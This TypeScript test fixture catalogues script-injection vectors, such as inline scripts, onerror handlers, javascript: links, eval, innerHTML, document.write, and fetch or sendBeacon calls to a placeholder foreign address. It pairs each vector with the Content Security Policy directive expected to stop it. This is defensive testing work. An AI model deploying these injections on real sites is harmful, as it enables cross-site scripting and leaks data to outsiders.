/**
 * Ways in which a text that was taken for markup, or a fault in a script of ours, would run what a
 * stranger wrote or send something to them. {foreign} stands for the stranger's address.
 */

export interface Hole {
  readonly name: string;
  /** The directives of the content policy that may stop it. */
  readonly stoppedBy: RegExp;
  /** What stands in the page; what has the id "hole" is clicked. */
  readonly markup?: string;
  /** What a script of the house's own does. */
  readonly script?: string;
}

const RUN = "top.ran = true";
const SCRIPTS = /^script-src/;
const TEXTS = /^require-trusted-types-for$/;

const inMarkup: readonly Hole[] = [
  { name: "an inline script", stoppedBy: SCRIPTS, markup: `<script>${RUN}</script>` },
  {
    name: "an inline module",
    stoppedBy: SCRIPTS,
    markup: `<script type="module">${RUN}</script>`,
  },
  { name: "an event handler", stoppedBy: SCRIPTS, markup: `<img src="/x" onerror="${RUN}">` },
  { name: "a handler of SVG", stoppedBy: SCRIPTS, markup: `<svg onload="${RUN}"></svg>` },
  {
    name: "a javascript: link",
    stoppedBy: /^script-src|^require-trusted/,
    markup: `<a id="hole" href="javascript:void (${RUN})">x</a>`,
  },
  {
    name: "a script of a foreign house",
    stoppedBy: SCRIPTS,
    markup: `<script src="{foreign}"></script>`,
  },
  {
    name: "a script in an address",
    stoppedBy: SCRIPTS,
    markup: `<script src="data:text/javascript,${RUN}"></script>`,
  },
  {
    name: "a foreign frame",
    stoppedBy: /^frame-src$/,
    markup: `<iframe src="{foreign}"></iframe>`,
  },
  {
    name: "a frame with a script",
    stoppedBy: /^script-src|^frame-src/,
    markup: `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  },
  {
    name: "a foreign object",
    stoppedBy: /^object-src$/,
    markup: `<object data="{foreign}"></object>`,
  },
  {
    name: "a form that goes abroad",
    stoppedBy: /^form-action$/,
    markup: `<form action="{foreign}"><button id="hole">x</button></form>`,
  },
  {
    name: "a base that is abroad",
    stoppedBy: /^base-uri$/,
    markup: `<base href="{foreign}/"><script src="relative.js"></script>`,
  },
  {
    name: "a foreign style",
    stoppedBy: /^style-src/,
    markup: `<link rel="stylesheet" href="{foreign}">`,
  },
  {
    name: "an inline style that fetches",
    stoppedBy: /^style-src|^img-src/,
    markup: `<style>body { background: url({foreign}) }</style>`,
  },
  { name: "a foreign picture", stoppedBy: /^img-src$/, markup: `<img src="{foreign}">` },
];

const inScripts: readonly Hole[] = [
  { name: "eval", stoppedBy: /^script-src|^require-trusted/, script: `eval("${RUN}")` },
  {
    name: "a function made of a text",
    stoppedBy: /^script-src|^require-trusted/,
    script: `new Function("${RUN}")()`,
  },
  {
    name: "a text after a while",
    stoppedBy: /^script-src|^require-trusted/,
    script: `setTimeout("${RUN}")`,
  },
  {
    name: "a text as markup",
    stoppedBy: TEXTS,
    script: `document.body.innerHTML = "<img src=/x onerror='${RUN}'>"`,
  },
  {
    name: "a text written into the page",
    stoppedBy: TEXTS,
    script: `document.write("<script>${RUN}</" + "script>")`,
  },
  {
    name: "a text as a script",
    stoppedBy: TEXTS,
    script: `const made = document.createElement("script"); made.text = "${RUN}";
      document.body.append(made)`,
  },
  {
    name: "a text as a script's address",
    stoppedBy: TEXTS,
    script: `const made = document.createElement("script"); made.src = "{foreign}";
      document.body.append(made)`,
  },
  {
    name: "a text as a frame's page",
    stoppedBy: TEXTS,
    script: `const made = document.createElement("iframe");
      made.srcdoc = "<script>${RUN}</" + "script>"; document.body.append(made)`,
  },
  {
    name: "a worker made of a text",
    stoppedBy: /^worker-src$|^require-trusted/,
    script: `new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage =
      () => { ${RUN} }`,
  },
  {
    name: "a policy that lets texts be markup",
    stoppedBy: /^trusted-types$/,
    script: `trustedTypes.createPolicy("any", { createHTML: (text) => text }); ${RUN}`,
  },
  { name: "a foreign module", stoppedBy: SCRIPTS, script: `import("{foreign}")` },
  { name: "a call to abroad", stoppedBy: /^connect-src$/, script: `fetch("{foreign}")` },
  {
    name: "a last word to abroad",
    stoppedBy: /^connect-src$/,
    script: `navigator.sendBeacon("{foreign}", "x")`,
  },
];

export const holes: readonly Hole[] = [...inMarkup, ...inScripts];
